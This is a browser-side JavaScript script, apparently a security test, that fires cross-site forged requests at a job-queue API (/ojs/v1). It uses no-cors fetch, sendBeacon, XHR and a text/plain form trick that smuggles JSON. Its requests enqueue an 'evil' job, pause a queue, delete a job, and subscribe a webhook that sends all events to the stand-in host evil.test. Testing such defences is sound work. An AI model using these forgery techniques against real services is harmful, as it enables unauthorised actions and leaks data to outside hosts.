// Runs in a page, as a classic script: each way a page has to send something, at everything that would change something.
/* global Blob, XMLHttpRequest, document, navigator */

/** Answers what it could read. */
globalThis.attack = async (base, job) => {
  const read = []
  const targets = [
    ['/ojs/v1/jobs', '{"type":"evil","args":[]}'],
    ['/ojs/v1/webhooks/subscriptions', '{"url":"https://evil.test/","events":["*"]}'],
    ['/ojs/v1/queues/default/pause', ''],
    ['/ojs/v1/workers/fetch', '{"queues":["default"]}'],
  ]
  const attempt = async (name, send) => {
    try {
      const text = await send()
      if (text !== '') read.push(`${name} ${text}`)
    } catch {
      // The browser has refused.
    }
  }
  for (const [path, body] of targets) {
    const url = base + path
    for (const headers of [{}, { 'Content-Type': 'text/plain' }])
      await attempt('no-cors', async () =>
        (await fetch(url, { method: 'POST', mode: 'no-cors', headers, body: new Blob([body]) })).text(),
      )
    await attempt('quiet', async () =>
      (await fetch(url, { method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', body })).text(),
    )
    await attempt('cors', async () =>
      (await fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body })).text(),
    )
    await attempt('delete', async () => (await fetch(`${base}/ojs/v1/jobs/${job}`, { method: 'DELETE' })).text())
    navigator.sendBeacon(url, new Blob([body]))
    navigator.sendBeacon(url, body)
    await attempt(
      'xhr',
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest()
          request.onload = () => resolve(request.responseText)
          request.onerror = reject
          request.open('POST', url)
          request.send(body)
        }),
    )
    await new Promise((resolve) => {
      const frame = document.createElement('iframe')
      frame.name = 'target'
      document.body.append(frame)
      const form = document.createElement('form')
      Object.assign(form, { method: 'POST', enctype: 'text/plain', action: url, target: 'target' })
      const field = document.createElement('input')
      Object.assign(field, { name: body.slice(0, -1), value: '}' })
      form.append(field)
      document.body.append(form)
      frame.onload = () => {
        frame.remove()
        form.remove()
        resolve(null)
      }
      form.submit()
    })
  }
  await attempt('get', async () => (await fetch(`${base}/ojs/v1/jobs`)).text())
  return read
}
